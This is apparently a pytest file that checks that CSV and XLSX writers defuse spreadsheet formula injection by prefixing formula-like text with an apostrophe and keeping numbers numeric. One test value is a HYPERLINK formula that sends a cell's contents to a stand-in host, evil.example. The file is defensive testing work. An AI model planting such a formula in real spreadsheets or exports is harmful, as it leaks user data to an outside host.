"""The one rule every CSV and XLSX writer applies: text a spreadsheet would evaluate is written as text, numbers and
texts that spell numbers as they are."""
from __future__ import annotations

import csv

from openpyxl import load_workbook

from tools.results import Writer
from tools.spreadsheet import csv_row, formula_like

CELLS = ["=1+1", "+A1", "-", "@x", "\tx", "\rx", "-30", "+30", "-30.00", "-1e5", ".5", "name", "", -30, -2.5, 7, None]


def test_formula_like_text_gets_an_apostrophe_in_csv_and_numbers_stay():
    assert csv_row(CELLS) == ["'=1+1", "'+A1", "'-", "'@x", "'\tx", "'\rx", "-30", "+30", "-30.00", "-1e5", ".5", "name",
                              "", -30, -2.5, 7, None]
    assert not any(formula_like(c) for c in (-30, -30.5, True, None, "-30", "3-4"))


def test_the_writers_apply_it(tmp_path):
    record = {"row": -30, "status": "scored", "name": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
              "uscc": "-30", "score": "-30.00", "period": "@2025", "rules": {"r1": "-2.50"}, "flags": ["-x"]}
    for fmt in ("csv", "xlsx"):
        writer = Writer(tmp_path / f"out.{fmt}", fmt, ["r1"])
        writer.write(record)
        writer.close()
    with (tmp_path / "out.csv").open(newline="", encoding="utf-8") as handle:
        (row,) = csv.DictReader(handle)
    assert (row["name"], row["period"], row["flags"]) == ("'" + record["name"], "'@2025", "'-x")
    assert (row["row"], row["uscc"], row["score"], row["rule.r1"]) == ("-30", "-30", "-30.00", "-2.50")
    sheet = load_workbook(tmp_path / "out.xlsx").active
    head = [c.value for c in sheet[1]]
    cells = dict(zip(head, sheet[2]))
    for name in ("name", "period", "flags"):
        assert cells[name].data_type == "s"
    assert (cells["name"].value, cells["period"].value, cells["flags"].value) == (record["name"], "@2025", "-x")
    assert (cells["row"].data_type, cells["row"].value) == ("n", -30)
    assert (cells["score"].value, cells["rule.r1"].value) == ("-30.00", "-2.50")
